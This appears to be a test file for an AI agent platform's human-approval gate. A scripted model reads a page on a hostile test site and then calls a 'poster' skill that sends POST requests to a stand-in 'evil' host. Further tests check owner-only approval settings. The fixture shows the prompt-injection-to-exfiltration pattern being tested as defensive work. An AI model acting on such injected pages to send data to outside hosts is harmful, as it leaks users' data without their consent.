import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { approvalEvents, payloads, startHostileApp } from './hostile-app.ts';
import type { HostileApp, ToolStep } from './hostile-app.ts';

let hostile: HostileApp;

before(async () => {
  hostile = await startHostileApp();
});
after(() => hostile?.stop());

const read = (): ToolStep => ({
  name: 'source_summary',
  input: { query: 'tea', urls: [`${hostile.site.origin}/page`] },
});
const posts = (path: string): ToolStep => ({
  name: 'skill',
  input: {
    query: 'Send',
    skill: 'poster',
    script: 'scripts/send.py',
    args: ['POST', `${hostile.evil.origin}${path}`],
  },
});

test('code sends what a person has let through, once, and without a second question for the run', async () => {
  hostile.modelDoes([read(), posts('/1'), posts('/2'), posts('/3')]);
  const runId = await hostile.start(`Read ${hostile.site.origin}/page`, { approvals: 'ask' });
  for (const decision of ['once', 'run'] as const) {
    const [waiting] = await hostile.pending(runId);
    assert.equal(waiting!.reason, 'skill-request');
    await hostile.client.answerApproval({ runId, callId: waiting!.callId, decision });
    while ((await hostile.client.getRunStatus(runId)).approvalState?.pending[0]?.callId === waiting!.callId);
  }
  const { events } = await hostile.ended(runId);
  assert.deepEqual(hostile.evil.seen, ['POST /1', 'POST /2', 'POST /3']);
  assert.equal(hostile.jobs.length, 5, 'twice with a question, once without');
  assert.deepEqual(approvalEvents(events), [
    'approval-needed',
    'approval-given',
    'approval-needed',
    'approval-given',
  ]);
  assert.equal(payloads(events, 'skill-complete').length, 3);
});

test('settings are for owners, hold what was given, and refuse what does not exist', async () => {
  const others = {
    defaultModel: null,
    models: { fast: null, writer: null, judge: null },
    evidenceRepair: null,
    budgets: { run: null, key: null, member: null, workspace: null },
    publicLinks: false,
  };
  assert.deepEqual(await hostile.client.getWorkspaceSettings(), { approvals: 'ask', ...others });
  const denied = { approvals: 'deny', ...others };
  assert.deepEqual(await hostile.client.updateWorkspaceSettings({ approvals: 'deny' }), denied);
  assert.deepEqual(await hostile.client.updateWorkspaceSettings({}), denied);
  assert.deepEqual(await hostile.client.getWorkspaceSettings(), denied);
  for (const body of [{ aprovals: 'allow' }, { approvals: 'always' }])
    await assert.rejects(hostile.client.updateWorkspaceSettings(body as never), { status: 400 });
  const ben = hostile.app.client((await hostile.app.createKey({ user: 'ben@example.com' })).key);
  await assert.rejects(ben.getWorkspaceSettings(), { status: 403 });
  await assert.rejects(ben.updateWorkspaceSettings({ approvals: 'allow' }), { status: 403 });
  const eve = hostile.app.client(
    (await hostile.app.createKey({ workspace: 'other', user: 'eve@example.com' })).key,
  );
  assert.deepEqual(await eve.getWorkspaceSettings(), { approvals: 'ask', ...others });
  await hostile.client.updateWorkspaceSettings({ approvals: 'ask' });
});
